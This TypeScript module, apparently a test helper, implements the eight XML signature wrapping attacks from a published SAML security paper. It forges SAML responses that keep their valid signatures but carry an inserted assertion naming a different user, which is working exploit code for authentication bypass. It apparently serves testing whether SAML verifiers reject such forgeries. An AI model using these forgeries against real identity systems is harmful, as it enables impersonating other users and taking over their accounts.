/** The eight signature wrapping attacks of "On Breaking SAML: Be Whoever You Want to Be". */
export const wrappings = ['1', '2', '3', '4', '5', '6', '7', '8'] as const;

/** An answer with its text changed. Both are base64. */
export function changed(answer: string, from: string | RegExp, to: string): string {
  const document = Buffer.from(answer, 'base64').toString();
  const other = document.replace(from, to);
  if (other === document) throw new Error(`The answer has no ${String(from)}.`);
  return Buffer.from(other).toString('base64');
}

/** An answer with valid signatures and a forged part that names another person. */
export function wrapped(
  answer: string,
  kind: (typeof wrappings)[number],
  { from, to }: { readonly from: string; readonly to: string },
): string {
  const document = Buffer.from(answer, 'base64').toString();
  const [assertion] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(document) ?? [''];
  const inner = signatureOf(assertion);
  const outer = signatureOf(document.replace(assertion, ''));
  const bare = assertion.replace(inner, '');
  const forge = (text: string) => text.replaceAll(from, to).replace(/ ID="[^"]*"/, ' ID="_forged"');
  const forged = forge(bare);
  const forgedAnswer = forge(document.replace(outer, '').replace(assertion, bare));
  const original = document.replace(outer, '');
  // From the third on, only the assertion's signature counts.
  const ways = {
    '1': () =>
      forgedAnswer.replace(
        '<saml:Assertion',
        `${around(outer, `<ds:Object>${original}</ds:Object>`)}<saml:Assertion`,
      ),
    '2': () => forgedAnswer.replace('<saml:Assertion', `${original}${outer}<saml:Assertion`),
    '3': () => original.replace(assertion, `${forged}${assertion}`),
    '4': () => original.replace(assertion, within(forged, assertion)),
    '5': () => original.replace(assertion, `${within(forged, inner)}${bare}`),
    '6': () => original.replace(assertion, within(forged, around(inner, bare))),
    '7': () =>
      original.replace(
        assertion,
        `<samlp:Extensions>${forge(assertion)}</samlp:Extensions>${assertion}`,
      ),
    '8': () =>
      original.replace(assertion, within(forged, around(inner, `<ds:Object>${bare}</ds:Object>`))),
  };
  const text = ways[kind]();
  if (!text.includes(to)) throw new Error(`Nothing was forged by ${kind}.`);
  return Buffer.from(text).toString('base64');
}

function signatureOf(text: string): string {
  const [signature] = /<Signature xmlns[\s\S]*?<\/Signature>/.exec(text) ?? [];
  if (signature === undefined) throw new Error('It is not signed.');
  return signature;
}

/** The signature with content inserted into it. */
function around(signature: string, content: string): string {
  return signature.replace(
    '</Signature>',
    `${content.replaceAll('ds:Object', 'Object')}</Signature>`,
  );
}

/** The assertion with content inserted after its issuer. */
function within(assertion: string, content: string): string {
  return assertion.replace('</saml:Issuer>', `</saml:Issuer>${content}`);
}
